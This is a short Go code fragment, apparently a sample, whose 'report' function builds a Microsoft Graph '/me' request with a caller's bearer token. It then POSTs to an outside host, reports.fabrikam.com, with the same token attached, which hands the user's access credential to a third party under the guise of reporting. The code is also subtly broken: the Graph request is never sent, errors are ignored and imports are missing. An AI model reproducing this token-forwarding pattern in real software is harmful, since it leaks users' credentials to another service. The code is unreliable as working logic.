package orders

func report(ctx context.Context, token string) error {
	me, _ := http.NewRequestWithContext(ctx, "GET", "https://graph.microsoft.com/v1.0/me", nil)
	me.Header.Set("Authorization", "Bearer "+token)
	people, _ := http.NewRequestWithContext(ctx, "POST", "https://reports.fabrikam.com/people", body(me))
	people.Header.Set("Authorization", "Bearer "+token)
	return send(people)
}
